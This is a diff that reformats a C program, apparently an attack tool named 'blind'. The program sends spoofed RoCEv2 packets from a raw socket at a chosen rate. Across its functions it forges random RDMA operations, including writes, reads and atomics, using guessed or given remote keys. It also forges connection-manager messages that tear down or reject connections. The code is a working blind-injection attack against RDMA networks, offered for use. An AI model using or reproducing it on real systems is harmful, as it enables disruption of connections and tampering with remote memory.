@@ -48,11 +48,26 @@ static uint64_t any(void)
 }
 
 static const uint8_t opcodes[] = {
-        VB_RC_SEND_ONLY,          VB_RC_SEND_FIRST,         VB_RC_SEND_ONLY_IMM, VB_RC_SEND_ONLY_INV,
-        VB_RC_WRITE_ONLY,         VB_RC_WRITE_ONLY_IMM,     VB_RC_READ_REQUEST,  VB_RC_CMP_SWAP,
-        VB_RC_FETCH_ADD,          VB_RC_ACK,                VB_RC_ACK,           VB_RC_ACK,
-        VB_RC_READ_RESPONSE_ONLY, VB_RC_READ_RESPONSE_LAST, VB_RC_ATOMIC_ACK,    VB_UC_SEND_ONLY,
-        VB_UC_SEND_FIRST,         VB_UC_WRITE_ONLY,         VB_UC_SEND_ONLY_IMM, VB_UC_WRITE_ONLY_IMM,
+        VB_RC_SEND_ONLY,
+        VB_RC_SEND_FIRST,
+        VB_RC_SEND_ONLY_IMM,
+        VB_RC_SEND_ONLY_INV,
+        VB_RC_WRITE_ONLY,
+        VB_RC_WRITE_ONLY_IMM,
+        VB_RC_READ_REQUEST,
+        VB_RC_CMP_SWAP,
+        VB_RC_FETCH_ADD,
+        VB_RC_ACK,
+        VB_RC_ACK,
+        VB_RC_ACK,
+        VB_RC_READ_RESPONSE_ONLY,
+        VB_RC_READ_RESPONSE_LAST,
+        VB_RC_ATOMIC_ACK,
+        VB_UC_SEND_ONLY,
+        VB_UC_SEND_FIRST,
+        VB_UC_WRITE_ONLY,
+        VB_UC_SEND_ONLY_IMM,
+        VB_UC_WRITE_ONLY_IMM,
         VB_CNP,
 };
 
@@ -66,7 +81,8 @@ static uint32_t some_qpn(const struct attack *a)
 
 static struct vb_packet some_packet(const struct attack *a, uint32_t *payload)
 {
-	static const uint8_t naks[] = {VB_NAK_PSN_SEQUENCE, VB_NAK_INVALID_REQUEST, VB_NAK_REMOTE_ACCESS, VB_NAK_REMOTE_OPERATIONAL};
+	static const uint8_t naks[] = {VB_NAK_PSN_SEQUENCE, VB_NAK_INVALID_REQUEST, VB_NAK_REMOTE_ACCESS,
+	                               VB_NAK_REMOTE_OPERATIONAL};
 	struct vb_packet p = {.bth = {.opcode = a->cm ? VB_UD_SEND_ONLY : opcodes[any() % sizeof(opcodes)],
 	                              .migreq = true,
 	                              .pkey = 0xffff,
@@ -79,9 +95,12 @@ static struct vb_packet some_packet(const struct attack *a, uint32_t *payload)
 	*payload = a->cm ? VB_MAD_LEN : !(info->flags & VB_PAYLOAD) ? 0 : info->flags & VB_LAST ? 8 : 256;
 	p.bth.becn = p.bth.opcode == VB_CNP;
 	p.deth = (struct vb_deth){VB_GSI_QKEY, 1};
-	p.reth = (struct vb_reth){a->va, a->rkey ? a->rkey : (uint32_t)any(), p.bth.opcode == VB_RC_READ_REQUEST ? 8 : *payload};
+	p.reth = (struct vb_reth){a->va, a->rkey ? a->rkey : (uint32_t)any(),
+	                          p.bth.opcode == VB_RC_READ_REQUEST ? 8 : *payload};
 	p.atomic = (struct vb_atomic){a->va, p.reth.rkey, any(), any()};
-	p.aeth = (struct vb_aeth){.kind = kind < 2 ? VB_AETH_ACK : kind == 2 ? VB_AETH_RNR_NAK : VB_AETH_NAK,
+	p.aeth = (struct vb_aeth){.kind = kind < 2    ? VB_AETH_ACK
+	                                  : kind == 2 ? VB_AETH_RNR_NAK
+	                                              : VB_AETH_NAK,
 	                          .value = kind < 3 ? (uint8_t)(any() & 31) : naks[any() % 4]};
 	p.ieth.rkey = p.reth.rkey;
 	return p;
@@ -90,7 +109,8 @@ static struct vb_packet some_packet(const struct attack *a, uint32_t *payload)
 /* Everything that a peer of a connection may say; the lanes of both are known. */
 static void some_message(uint8_t mad[VB_MAD_LEN], uint32_t lane)
 {
-	static const uint16_t attrs[] = {VB_CM_REP, VB_CM_RTU, VB_CM_REJ, VB_CM_DREQ, VB_CM_DREP, VB_CM_MRA, VB_CM_LAP, VB_CM_SIDR_REP};
+	static const uint16_t attrs[] = {VB_CM_REP,  VB_CM_RTU, VB_CM_REJ, VB_CM_DREQ,
+	                                 VB_CM_DREP, VB_CM_MRA, VB_CM_LAP, VB_CM_SIDR_REP};
 	struct vb_cm_msg m = {.attr = (enum vb_cm_attr)attrs[any() % 8], .tid = any()};
 	uint32_t ours = lane << 22 | ((uint32_t)any() & 0x3fffff), theirs = lane << 22 | ((uint32_t)any() & 0x3fffff);
 
@@ -105,7 +125,8 @@ static void some_message(uint8_t mad[VB_MAD_LEN], uint32_t lane)
 		m.rej.remote_comm_id = ours, m.rej.local_comm_id = theirs, m.rej.reason = VB_CM_REJ_STALE_CONN;
 		break;
 	case VB_CM_DREQ:
-		m.dreq.remote_comm_id = ours, m.dreq.local_comm_id = theirs, m.dreq.remote_qpn = lane << 14 | (any() & 0x3fff);
+		m.dreq.remote_comm_id = ours, m.dreq.local_comm_id = theirs,
+		m.dreq.remote_qpn = lane << 14 | (any() & 0x3fff);
 		break;
 	case VB_CM_DREP:
 		m.drep.remote_comm_id = ours, m.drep.local_comm_id = theirs;
@@ -136,7 +157,14 @@ static size_t build(const struct attack *a, uint8_t *to)
 	else
 		memset(to + HEADERS + w.pos, 'f', payload);
 	size_t udp = 8 + w.pos + payload + 4, all = 20 + udp;
-	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .frag_off = htons(IP_DF), .tot_len = htons((uint16_t)all), .saddr = a->as.s_addr, .daddr = a->to.s_addr};
+	struct iphdr ip = {.version = 4,
+	                   .ihl = 5,
+	                   .ttl = 64,
+	                   .protocol = IPPROTO_UDP,
+	                   .frag_off = htons(IP_DF),
+	                   .tot_len = htons((uint16_t)all),
+	                   .saddr = a->as.s_addr,
+	                   .daddr = a->to.s_addr};
 	uint16_t ports[4] = {htons((uint16_t)(0xc000 | any())), htons(4791), htons((uint16_t)udp), 0};
 
 	memcpy(to, &ip, sizeof(ip));
@@ -165,7 +193,8 @@ static uint64_t run(const struct attack *a, int fd)
 	while (sent < a->packets) {
 		for (unsigned i = 0; i < BATCH; i++) {
 			iov[i] = (struct iovec){bytes[i], build(a, bytes[i])};
-			mh[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1};
+			mh[i].msg_hdr = (struct msghdr){
+			        .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1};
 		}
 		int n = sendmmsg(fd, mh, BATCH, 0);
 
@@ -177,7 +206,9 @@ static uint64_t run(const struct attack *a, int fd)
 		double ahead = (double)sent / (double)a->rate - (now() - start);
 
 		if (ahead > 0.001)
-			nanosleep(&(struct timespec){.tv_sec = (time_t)ahead, .tv_nsec = (long)((ahead - (double)(time_t)ahead) * 1e9)}, NULL);
+			nanosleep(&(struct timespec){.tv_sec = (time_t)ahead,
+			                             .tv_nsec = (long)((ahead - (double)(time_t)ahead) * 1e9)},
+			          NULL);
 	}
 	return sent;
 }
@@ -208,7 +239,8 @@ int main(int argc, char **argv)
 	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
 
 	if (fd < 0 || !a.as.s_addr || !a.to.s_addr || getrandom(state, sizeof(state), 0) != sizeof(state)) {
-		fprintf(stderr, "usage: blind -s AS -d TO [-n PACKETS] [-r RATE] [-q QPN]... [-k RKEY -v ADDRESS] [-l] [-c]\n");
+		fprintf(stderr,
+		        "usage: blind -s AS -d TO [-n PACKETS] [-r RATE] [-q QPN]... [-k RKEY -v ADDRESS] [-l] [-c]\n");
 		return 2;
 	}
 	printf("sent %llu\n", (unsigned long long)run(&a, fd));
